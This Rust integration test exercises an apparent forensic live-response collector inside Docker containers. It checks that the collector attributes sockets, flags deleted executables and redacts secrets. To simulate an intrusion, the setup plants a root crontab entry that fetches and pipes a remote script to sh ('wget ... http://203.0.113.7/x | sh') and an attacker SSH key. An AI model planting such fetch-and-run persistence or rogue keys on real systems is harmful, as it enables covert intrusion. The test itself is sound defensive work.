//! Live response inside a real Docker container (busybox image, no registry): a TCP
//! listener, an established connection, a process running from a binary deleted after
//! it started, a process with a secret-looking environment variable, a root crontab and
//! an authorized_keys file. Collected as root and as uid 1000 through `docker exec`;
//! each must be found and attributed (socket → PID, deleted exe hash = the original
//! binary's sha256, secret redacted), and what uid 1000 may not read is logged once.

mod common;
use common::docker::*;
use common::*;
use serde_json::Value;
use sha2::{Digest, Sha256};

fn jsonl(a: &Archive, path: &str) -> Vec<Value> {
    a.text(path)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn pid_of(procs: &[Value], argv: &[&str]) -> i64 {
    procs
        .iter()
        .find(|p| {
            p["cmdline"].as_array().is_some_and(|c| {
                c.iter()
                    .map(|v| v.as_str().unwrap())
                    .eq(argv.iter().copied())
            })
        })
        .unwrap_or_else(|| panic!("no process {argv:?}"))["pid"]
        .as_i64()
        .unwrap()
}

fn owners(s: &Value) -> Vec<i64> {
    s["processes"]
        .as_array()
        .map(|l| l.iter().map(|o| o["pid"].as_i64().unwrap()).collect())
        .unwrap_or_default()
}

/// What differs between the images the scenario runs in.
struct Flavor {
    image: &'static str,
    /// The binary copied to /tmp/.xK/ and deleted after it started, and the arguments
    /// before `sleep N` (busybox needs its applet name).
    deleted_src: &'static str,
    deleted_args: &'static [&'static str],
    /// Where this distribution's cron keeps root's crontab.
    crontab: &'static str,
}

const BUSYBOX: Flavor = Flavor {
    image: "",
    deleted_src: "/bin/busybox",
    deleted_args: &["sleep"],
    crontab: "/etc/crontabs/root",
};
const DEBIAN: Flavor = Flavor {
    image: "",
    deleted_src: "/usr/bin/sleep",
    deleted_args: &[],
    crontab: "/var/spool/cron/crontabs/root",
};

fn deleted_path(f: &Flavor, k: u32) -> String {
    let name = f.deleted_src.rsplit('/').next().unwrap();
    format!("/tmp/.x{k}/{name}")
}

/// Starts, as `user`, a TCP listener on 8080+k, a server on 9090+k with a client
/// connected to it, a process with a secret in its environment (`sleep 1001+10k`) and
/// one running from a binary deleted after start (`/tmp/.xK/... sleep 1002+10k`).
fn plant(f: &Flavor, ct: &str, user: &str, k: u32) {
    // busybox nc listens on IPv6 `::` (dual stack), so its sockets show in tcp6; a
    // never-ending stdin keeps the server side open after it accepts. Debian's
    // netcat-openbsd takes the same `-l -p` form.
    let sh = |detach: bool, env: Option<&str>, script: String| {
        let mut args = vec!["exec".to_owned()];
        if detach {
            args.push("-d".into());
        }
        if let Some(e) = env {
            args.extend(["-e".into(), e.to_owned()]);
        }
        args.extend([
            "--user".into(),
            user.into(),
            ct.into(),
            "sh".into(),
            "-c".into(),
            script,
        ]);
        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
        ok(&refs);
    };
    sh(
        true,
        None,
        format!("sleep 2000 | nc -l -p {} >/dev/null 2>&1", 8080 + k),
    );
    sh(
        true,
        None,
        format!("sleep 2001 | nc -l -p {} >/dev/null 2>&1", 9090 + k),
    );
    sh(
        true,
        Some("API_TOKEN=hunter2-secret"),
        format!("exec sleep {}", 1001 + 10 * k),
    );
    let x = deleted_path(f, k);
    let args = f.deleted_args.join(" ");
    sh(false, None, format!("mkdir -p /tmp/.x{k} && cp {src} {x} && ({x} {args} {n} >/dev/null 2>&1 &) && sleep 0.3 && rm {x}", src = f.deleted_src, n = 1002 + 10 * k));
    std::thread::sleep(std::time::Duration::from_millis(300));
    sh(
        true,
        None,
        format!("sleep 1003 | nc 127.0.0.1 {} >/dev/null 2>&1", 9090 + k),
    );
    // Wait until the connection is up.
    let port = format!(":{:04X} ", 9090 + k);
    for _ in 0..50 {
        let t = ok(&["exec", ct, "cat", "/proc/net/tcp", "/proc/net/tcp6"]);
        if t.lines()
            .any(|l| l.contains(&port) && l.split_whitespace().nth(3) == Some("01"))
        {
            return;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    panic!("the connection to port {} did not come up", 9090 + k);
}

fn start_target(img: &str, bin: &std::path::Path, tag: &str, extra: &[&str]) -> Container {
    let vol = format!("{}:/opt/cairn/cairn-collector:ro", bin.display());
    let name = format!("cairn-{tag}-{}", std::process::id());
    let mut args = vec!["run", "-d", "--name", &name, "-v", &vol];
    args.extend_from_slice(extra);
    args.extend([img, "sleep", "3600"]);
    ok(&args);
    Container(name)
}

#[test]
fn live_response_in_busybox_as_root_and_as_uid_1000() {
    let Some(bin) = setup() else { return };
    let f = Flavor {
        image: busybox_image(),
        ..BUSYBOX
    };
    scenario(&f, &bin);
}

#[test]
fn live_response_in_debian_as_root_and_as_uid_1000() {
    let Some(bin) = setup() else { return };
    let Some(image) = debian_image() else { return };
    let f = Flavor { image, ..DEBIAN };
    let a = scenario(&f, &bin);
    // What a Debian root adds: the package database and root's bash history.
    assert!(a
        .text("files/var/lib/dpkg/status")
        .contains("Package: netcat-openbsd"));
    assert!(a.text("files/root/.bash_history").contains("203.0.113.9"));
    assert!(a.text("files/home/app/.bash_history").contains("id"));
}

/// Plants the scenario in a fresh container of `f.image`, collects as root and as uid
/// 1000, asserts both, and returns the root collection for image-specific checks.
fn scenario(f: &Flavor, bin: &std::path::Path) -> Archive {
    let dir = tempfile::tempdir().unwrap();
    let tag = f.image.replace([':', '/'], "-");
    let ct = start_target(f.image, bin, &tag, &["--network", "none"]);
    let name = ct.0.clone();
    let id = ok(&["inspect", "-f", "{{.Id}}", &name]);

    // Persistence planted by root: a root crontab (0600) and app's authorized_keys.
    let cron_dir = f.crontab.rsplit_once('/').unwrap().0;
    ok(&["exec", &name, "sh", "-c", &format!("mkdir -p {cron_dir} /home/app/.ssh && echo '* * * * * wget -q -O- http://203.0.113.7/x | sh' > {c} && chmod 600 {c} && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttacker evil@host' > /home/app/.ssh/authorized_keys && chown -R 1000:1000 /home/app/.ssh", c = f.crontab)]);
    // Without CAP_SYS_PTRACE (Docker's default) the kernel lets a collector read the
    // fd table and exe of processes of its own uid only, so each run gets its own set:
    // root's processes for the root run, uid 1000's for the uid-1000 run.
    for (user, k) in [("0", 0u32), ("1000", 1)] {
        plant(f, &name, user, k);
    }
    let original = docker(&["exec", &name, "cat", f.deleted_src]);
    assert!(original.status.success() && !original.stdout.is_empty());
    let original_sha = hex::encode(Sha256::digest(&original.stdout));
    let mut root_archive = None;

    for user in [None, Some("1000")] {
        let out = collect_via_exec(&name, "/opt/cairn/cairn-collector", user, dir.path());
        let a = Archive::read(&out);
        let who = format!("{} as {}", f.image, user.unwrap_or("root"));
        let k: u32 = if user.is_some() { 1 } else { 0 };
        let (lport, sport) = (8080 + k, 9090 + k);
        let (sl_secret, sl_del) = ((1001 + 10 * k).to_string(), (1002 + 10 * k).to_string());
        let (lp, sp) = (lport.to_string(), sport.to_string());
        let xdir = deleted_path(f, k);
        let mut del_argv: Vec<&str> = vec![&xdir];
        del_argv.extend(f.deleted_args);
        del_argv.push(&sl_del);
        let procs = jsonl(&a, "live_response/processes/processes.jsonl");
        let listener = pid_of(&procs, &["nc", "-l", "-p", &lp]);
        let server = pid_of(&procs, &["nc", "-l", "-p", &sp]);
        let client = pid_of(&procs, &["nc", "127.0.0.1", &sp]);
        let deleted = pid_of(&procs, &del_argv);
        let secret = pid_of(&procs, &["sleep", &sl_secret]);

        // Sockets, attributed to their processes.
        let sockets = jsonl(&a, "live_response/network/sockets.jsonl");
        let tcp = |f: &dyn Fn(&Value) -> bool| -> Vec<&Value> {
            sockets
                .iter()
                .filter(|s| s["proto"].as_str().unwrap().starts_with("tcp") && f(s))
                .collect()
        };
        let listen = tcp(&|s| s["local_port"] == lport && s["state"] == "LISTEN");
        assert_eq!(listen.len(), 1, "{who}: {sockets:?}");
        assert_eq!(owners(listen[0]), vec![listener], "{who}");
        let est = tcp(&|s| s["remote_port"] == sport && s["state"] == "ESTABLISHED");
        assert_eq!(est.len(), 1, "{who}: {sockets:?}");
        assert_eq!(owners(est[0]), vec![client], "{who}");
        assert_eq!(est[0]["uid"], if k == 0 { 0 } else { 1000 });
        let accepted = tcp(&|s| s["local_port"] == sport && s["state"] == "ESTABLISHED");
        assert_eq!(owners(accepted[0]), vec![server], "{who}");
        assert!(a
            .text("live_response/network/listening.txt")
            .contains(&format!("{listener}/nc")));
        assert!(a
            .text("live_response/network/established.txt")
            .contains(&format!("{client}/nc")));

        // The deleted executable: flagged, hashed through /proc/PID/exe, copied.
        let exes = jsonl(&a, "live_response/processes/executables.jsonl");
        let e = exes
            .iter()
            .find(|e| e["pid"] == deleted)
            .expect("deleted exe");
        assert_eq!(e["exe"], xdir.as_str());
        assert_eq!(e["deleted"], true);
        assert_eq!(e["sha256"], original_sha.as_str(), "{who}");
        let copy = e["copy"].as_str().expect("a copy of the deleted binary");
        assert_eq!(
            hex::encode(Sha256::digest(a.get(copy).unwrap())),
            original_sha
        );
        let p = procs.iter().find(|p| p["pid"] == deleted).unwrap();
        assert_eq!(p["exe_deleted"], true);

        // The secret is redacted, its name listed.
        let p = procs.iter().find(|p| p["pid"] == secret).unwrap();
        let env: Vec<&str> = p["environ"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_str().unwrap())
            .collect();
        assert!(
            env.contains(&"API_TOKEN=[REDACTED 14 bytes]"),
            "{who}: {env:?}"
        );
        assert_eq!(p["environ_redacted"], serde_json::json!(["API_TOKEN"]));
        assert!(
            !a.contains_bytes(b"hunter2-secret"),
            "{who}: the secret leaked"
        );

        // Persistence files and the timeline.
        assert!(a
            .text("files/home/app/.ssh/authorized_keys")
            .contains("evil@host"));
        let body = a.text("outputs/live/timeline/bodyfile.txt");
        assert!(
            body.lines().any(|l| l.split('|').nth(1) == Some(f.crontab)),
            "{who}"
        );
        assert!(
            body.lines()
                .any(|l| l.starts_with(&format!("0|/tmp/.x{k}|"))),
            "{who}"
        );

        // Identity: the container ID, the overlay layers, the tree.
        let sys: Value = serde_json::from_str(&a.text("live_response/system/system.json")).unwrap();
        assert_eq!(sys["container"]["id"], id.as_str(), "{who}: {sys}");
        assert_eq!(sys["container"]["runtime"], "docker");
        let ov: Value = serde_json::from_str(&a.text("live_response/mounts/overlay.json")).unwrap();
        assert!(
            ov["root"]["upperdir"]
                .as_str()
                .unwrap()
                .contains("/overlay2/"),
            "{ov}"
        );
        assert!(
            a.text("live_response/processes/tree.txt")
                .contains(&format!("{} (exe deleted)", del_argv.join(" "))),
            "{who}"
        );

        let priv_ = &a.summary()["collector"]["privileges"];
        match user {
            None => {
                assert!(a
                    .text(&format!("files{}", f.crontab))
                    .contains("203.0.113.7"));
                assert_eq!(priv_["euid"], 0);
            }
            Some(_) => {
                assert_eq!(priv_["euid"], 1000);
                assert_eq!(priv_["cap_eff"], "0000000000000000");
                // Root's crontab is unreadable: one denial, with path and reason.
                assert!(a.get(&format!("files{}", f.crontab)).is_none());
                let log = a.log();
                assert!(
                    log.iter()
                        .any(|l| l["event"] == "denied" && l["path"] == f.crontab),
                    "{log:?}"
                );
                // PID 1 (root's sleep) keeps its environ from uid 1000: logged once per kind.
                let env_denials: Vec<&Value> = log
                    .iter()
                    .filter(|l| {
                        l["event"] == "denied"
                            && l["message"].as_str().unwrap().starts_with("environ:")
                    })
                    .collect();
                assert_eq!(env_denials.len(), 1, "{env_denials:?}");
                // The summary counts each refused item, not each log line.
                let n: u64 = env_denials[0]["message"]
                    .as_str()
                    .unwrap()
                    .split(" for ")
                    .nth(1)
                    .and_then(|t| t.split(' ').next())
                    .and_then(|t| t.parse().ok())
                    .unwrap();
                assert!(a.summary()["counts"]["live_denied"].as_u64().unwrap() >= n);
                assert!(env_denials[0]["message"]
                    .as_str()
                    .unwrap()
                    .contains("EACCES"));
            }
        }
        if user.is_none() {
            root_archive = Some(a);
        }
    }
    root_archive.expect("the root run")
}

/// A sidecar with its own network namespace sharing the target's PID namespace (what
/// `shareProcessNamespace` gives in a pod, or `--pid=container:`): its listener lives in
/// a netns the collector is not in, and must still be found through /proc/PID/net and
/// attributed to the sidecar's process.
#[test]
fn live_response_sees_sockets_of_a_sidecar_network_namespace() {
    let Some(bin) = setup() else { return };
    let img = busybox_image();
    let target = start_target(img, &bin, "netns", &["--network", "none"]);
    let side = format!("{}-side", target.0);
    ok(&[
        "run",
        "-d",
        "--name",
        &side,
        "--network",
        "none",
        &format!("--pid=container:{}", target.0),
        img,
        "sh",
        "-c",
        "sleep 2002 | nc -l -p 7070",
    ]);
    let _side = Container(side.clone());
    for i in 0.. {
        let t = ok(&["exec", &side, "cat", "/proc/net/tcp6", "/proc/net/tcp"]);
        if t.lines()
            .any(|l| l.contains(":1B9E ") && l.split_whitespace().nth(3) == Some("0A"))
        {
            break;
        }
        assert!(i < 50, "the sidecar's listener did not come up");
        std::thread::sleep(std::time::Duration::from_millis(100));
    }

    let dir = tempfile::tempdir().unwrap();
    let out = collect_via_exec(&target.0, "/opt/cairn/cairn-collector", None, dir.path());
    let a = Archive::read(&out);
    let procs = jsonl(&a, "live_response/processes/processes.jsonl");
    let nc = pid_of(&procs, &["nc", "-l", "-p", "7070"]);
    let netns = |pid: i64| {
        procs.iter().find(|p| p["pid"] == pid).unwrap()["namespaces"]["net"]
            .as_u64()
            .unwrap()
    };
    let (side_ns, own_ns) = (netns(nc), netns(1));
    assert_ne!(side_ns, own_ns, "the sidecar must have its own netns");

    let sockets = jsonl(&a, "live_response/network/sockets.jsonl");
    let listen: Vec<&Value> = sockets
        .iter()
        .filter(|s| s["local_port"] == 7070 && s["state"] == "LISTEN")
        .collect();
    assert_eq!(listen.len(), 1, "{sockets:?}");
    assert_eq!(listen[0]["netns"], side_ns.to_string());
    assert_eq!(owners(listen[0]), vec![nc]);
    // Both namespaces' interfaces are listed, each with its loopback.
    let ifs: Value =
        serde_json::from_str(&a.text("live_response/network/interfaces.json")).unwrap();
    let spaces: std::collections::BTreeSet<String> = ifs
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["netns"].as_str().unwrap().to_owned())
        .collect();
    assert!(
        spaces.contains(&side_ns.to_string()) && spaces.contains(&own_ns.to_string()),
        "{spaces:?}"
    );
}
